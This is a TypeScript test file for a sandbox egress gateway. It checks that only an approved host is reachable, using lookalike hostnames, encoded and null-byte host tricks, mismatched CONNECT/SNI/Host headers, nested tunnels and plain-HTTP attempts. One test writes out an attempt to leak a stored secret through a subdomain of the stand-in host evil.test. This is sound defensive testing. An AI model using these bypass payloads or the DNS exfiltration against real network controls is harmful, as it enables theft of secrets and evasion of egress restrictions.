/** Families 20 and 21: hosts that look like the approved one, and requests that name two places at once. */

import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { dockerOrSkip } from '../support/docker.ts'
import { attack, rulesOf } from '../support/egress-attack.ts'
import { createEgressKit, type EgressKit } from '../support/egress-kit.ts'
import { PUBLIC_ADDRESS } from '../support/egress-upstream.ts'
import { patience } from '../support/pace.ts'

const docker = await dockerOrSkip()

describe.skipIf(!docker.available)(`the approved host and no other ${docker.reason}`, () => {
  let kit: EgressKit

  beforeAll(async () => {
    kit = await createEgressKit()
    // Whatever is looked up leads to the upstream: only the gateway's own evaluation stands between.
    const play = kit.names.get.bind(kit.names)
    kit.names.get = (name) => play(name) ?? (() => [PUBLIC_ADDRESS])
  })
  beforeEach(() => {
    kit.upstream.seen.length = 0
    kit.lookups.length = 0
  })
  afterAll(async () => {
    await kit?.[Symbol.asyncDispose]()
  })

  it(
    'is not reached under a name that only looks like it',
    async () => {
      const port = kit.upstream.port
      const targets = [
        `api.demo.test.evil.test:${port}`,
        `evil-api.demo.test:${port}`,
        `xapi.demo.test:${port}`,
        `api-demo.test:${port}`,
        `apiXdemo.test:${port}`,
        `demo.test:${port}`,
        `x.api.demo.test:${port}`,
        `other.demo.test:${port}`,
        `api.demo.test.:${port}`,
        `API.DEMO.TEST.:${port}`,
        `.api.demo.test:${port}`,
        `api..demo.test:${port}`,
        `api.demo.test:${port}@other.demo.test:${port}`,
        `api.demo.test@other.demo.test:${port}`,
        `user:pass@api.demo.test:${port}`,
        `other.demo.test:${port}/@api.demo.test:${port}`,
        `other.demo.test:${port}#@api.demo.test:${port}`,
        `other.demo.test:${port}?api.demo.test:${port}`,
        `other.demo.test\\@api.demo.test:${port}`,
        `api.demo.test\u0000.other.demo.test:${port}`,
        `api.demo.test%00.other.demo.test:${port}`,
        `api.demo.test%2eother.demo.test:${port}`,
        `api.demo.test\tother.demo.test:${port}`,
        `api.demo.test :${port}`,
        `api.demo.test:${port} other.demo.test:${port}`,
        `api.demo.test,other.demo.test:${port}`,
        `*.demo.test:${port}`,
        `*:${port}`,
        `\u00e0pi.demo.test:${port}`,
        `xn--pi-1ma.demo.test:${port}`,
        'api.demo.test:443',
        'api.demo.test:80',
        `api.demo.test:${port + 1}`,
        `api.demo.test:0${port}0`,
        `api.demo.test:${port + 65_536}`,
        `api.demo.test:-${port}`,
        `api.demo.test:${port}.0`,
        'api.demo.test:',
        'api.demo.test',
        `:${port}`,
        '',
        '/',
        `https://other.demo.test:${port}`,
      ]
      const { report, answer } = await attack(
        kit,
        `for (const target of TARGETS) tell(target, [
        await tunnelled(target, 'GET /lookalike HTTP/1.1\\r\\nHost: ' + target + '\\r\\nConnection: close\\r\\n\\r\\n', 'api.demo.test'),
        await tunnelled('api.demo.test:' + PORT, 'GET /host-header HTTP/1.1\\r\\nHost: ' + target + '\\r\\nConnection: close\\r\\n\\r\\n', 'api.demo.test'),
        await tunnelled('api.demo.test:' + PORT, 'GET https://' + target + '/absolute HTTP/1.1\\r\\nHost: api.demo.test:' + PORT + '\\r\\nConnection: close\\r\\n\\r\\n', 'api.demo.test'),
        await raw('GET https://' + target + '/direct HTTP/1.1\\r\\nHost: ' + target + '\\r\\nConnection: close\\r\\n\\r\\n'),
        await raw('GET http://' + target + '/direct HTTP/1.1\\r\\nHost: ' + target + '\\r\\nConnection: close\\r\\n\\r\\n'),
      ].map(({ line }) => line))`,
        { network: [kit.at('api.demo.test')], given: { TARGETS: targets }, timeout: 60 },
      )
      for (const target of targets) {
        for (const line of report[target]) expect(`${target} ${line}`).not.toMatch(/HTTP\/1\.1 2\d\d/)
      }
      expect(kit.upstream.seen).toEqual([])
      expect(kit.lookups.filter((name) => name !== 'api.demo.test')).toEqual([])
      expect(answer.network.refused.length).toBeGreaterThan(0)
    },
    patience(120_000),
  )

  it('is reached in capitals, for that is the same host', async () => {
    const { report } = await attack(
      kit,
      `tell('capitals', await tunnelled('API.Demo.TEST:' + PORT, 'GET /capitals HTTP/1.1\\r\\nHost: api.DEMO.test:' + PORT + '\\r\\nConnection: close\\r\\n\\r\\n', 'api.demo.test'))`,
      { network: [kit.at('api.demo.test')] },
    )
    expect(report.capitals.line).toBe('HTTP/1.1 200 OK')
    expect(kit.upstream.seen[0]?.headers.host).toBe(kit.at('api.demo.test'))
    expect(kit.upstream.seen[0]?.sni).toBe('api.demo.test')
  })

  it('with a wildcard is every name below the suffix by whole labels, and nothing else', async () => {
    const { report } = await attack(
      kit,
      `for (const name of ['deep.wild.demo.test', 'wild.demo.test', 'deepwild.demo.test', 'deep.wild.demo.test.evil.test', 'wild.demo.test.evil.test'])
        tell(name, await get('https://' + name + ':' + PORT + '/'))`,
      { network: [kit.at('*.wild.demo.test')] },
    )
    const results = Object.fromEntries(
      Object.entries(report).map(([name, { status, rule }]) => [name, rule ?? status]),
    )
    expect(results).toEqual({
      'deep.wild.demo.test': 200,
      'wild.demo.test': 'host_not_approved',
      'deepwild.demo.test': 'host_not_approved',
      'deep.wild.demo.test.evil.test': 'host_not_approved',
      'wild.demo.test.evil.test': 'host_not_approved',
    })
    expect(kit.upstream.seen).toHaveLength(1)
  })

  it('is the one that CONNECT, server name and Host agree on', async () => {
    const { report, answer } = await attack(
      kit,
      `const ask = (host) => 'GET /two-names HTTP/1.1\\r\\nHost: ' + host + ':' + PORT + '\\r\\nConnection: close\\r\\n\\r\\n'
      const api = 'api.demo.test', other = 'other.demo.test'
      tell('other SNI', await tunnelled(api + ':' + PORT, ask(api), other))
      tell('other Host', await tunnelled(api + ':' + PORT, ask(other), api))
      tell('other SNI and Host', await tunnelled(api + ':' + PORT, ask(other), other))
      tell('no Host', await tunnelled(api + ':' + PORT, 'GET /two-names HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n', api))
      tell('two Hosts', await tunnelled(api + ':' + PORT, ask(api).replace('Connection', 'Host: ' + other + '\\r\\nConnection'), api))
      tell('Host with a list', await tunnelled(api + ':' + PORT, ask(api + ', ' + other), api))
      tell('CONNECT with another Host', await raw('CONNECT ' + api + ':' + PORT + ' HTTP/1.1\\r\\nHost: ' + other + ':' + PORT + '\\r\\n\\r\\n'))
      tell('absolute form for another', await tunnelled(api + ':' + PORT, ask(api).replace('/two-names', 'https://' + other + ':' + PORT + '/two-names'), api))
      tell('absolute form, Host for another', await tunnelled(api + ':' + PORT, ask(other).replace('/two-names', 'https://' + api + ':' + PORT + '/two-names'), api))
      tell('second request for another', await tunnelled(api + ':' + PORT, ask(api).replace('Connection: close\\r\\n', '').replace('/two-names', '/first') + ask(other), api))`,
      { network: [kit.at('api.demo.test')] },
    )
    expect(kit.upstream.seen.filter(({ url }) => url.includes('two-names'))).toEqual([])
    expect(kit.lookups.filter((name) => name !== 'api.demo.test')).toEqual([])
    expect(report['other Host'].rule).toBe('host_mismatch')
    expect(report['other SNI and Host'].line).not.toContain(' 200 ')
    expect(rulesOf(answer)).toContain('host_mismatch')
  })

  it('is not a way to open a second tunnel, by any method', async () => {
    const { report, answer } = await attack(
      kit,
      `const inner = (method, target) => method + ' ' + target + ' HTTP/1.1\\r\\nHost: api.demo.test:' + PORT + '\\r\\n\\r\\n'
      tell('nested', await tunnelled('api.demo.test:' + PORT, inner('CONNECT', 'other.demo.test:' + PORT), 'api.demo.test'))
      tell('nested to itself', await tunnelled('api.demo.test:' + PORT, inner('CONNECT', 'api.demo.test:' + PORT), 'api.demo.test'))
      tell('TRACE', await tunnelled('api.demo.test:' + PORT, inner('TRACE', '/'), 'api.demo.test'))
      tell('bare address', await tunnelled('${PUBLIC_ADDRESS}:' + PORT, inner('GET', '/').replace('api.demo.test', '${PUBLIC_ADDRESS}'), '${PUBLIC_ADDRESS}'))
      tell('nonsense after CONNECT', await tunnelled('api.demo.test:' + PORT, 'SSH-2.0-attack\\r\\n', null))`,
      { network: [kit.at('api.demo.test')] },
    )
    for (const { line } of Object.values(report)) expect(line).not.toContain(' 200 ')
    expect(kit.upstream.seen).toEqual([])
    expect(rulesOf(answer)).toEqual(expect.arrayContaining(['method_not_allowed', 'host_not_approved']))
  })

  it('is not spoken to in plain text, on any port, unless http:// was approved', async () => {
    const { report, answer } = await attack(
      kit,
      `for (const host of ['api.demo.test', 'api.demo.test:80', 'api.demo.test:' + PORT])
        tell(host, await raw('GET http://' + host + '/plain HTTP/1.1\\r\\nHost: ' + host + '\\r\\nConnection: close\\r\\n\\r\\n'))
      tell('fetch', await get('http://api.demo.test/plain'))
      tell('in the tunnel', await tunnelled('api.demo.test:' + PORT, 'GET /plain HTTP/1.1\\r\\nHost: api.demo.test:' + PORT + '\\r\\nConnection: close\\r\\n\\r\\n', null))
      tell('to port 80', await tunnelled('api.demo.test:80', 'GET /plain HTTP/1.1\\r\\nHost: api.demo.test\\r\\nConnection: close\\r\\n\\r\\n', null))`,
      { network: [kit.at('api.demo.test'), 'api.demo.test'] },
    )
    for (const { line, status } of Object.values(report)) expect(`${line} ${status}`).not.toMatch(/ 200( |$)/)
    expect(report.fetch.rule).toBe('plain_http_not_approved')
    expect(kit.upstream.seen).toEqual([])
    expect(rulesOf(answer)).toContain('plain_http_not_approved')
  })

  it('keeps an unapproved name from the resolver, so that no name carries anything out', async () => {
    const { report } = await attack(
      kit,
      `tell('exfiltration', await get('https://' + key('KEY').slice(-20) + '.evil.test:' + PORT + '/'))`,
      { network: [kit.at('api.demo.test')], secrets: await stored() },
    )
    expect(report.exfiltration.rule).toBe('host_not_approved')
    expect(kit.lookups).toEqual([])
  })

  const stored = async (): Promise<string[]> => {
    await kit.store('KEY', 'demo-value-for-lookalike-hosts')
    return ['KEY']
  }
})
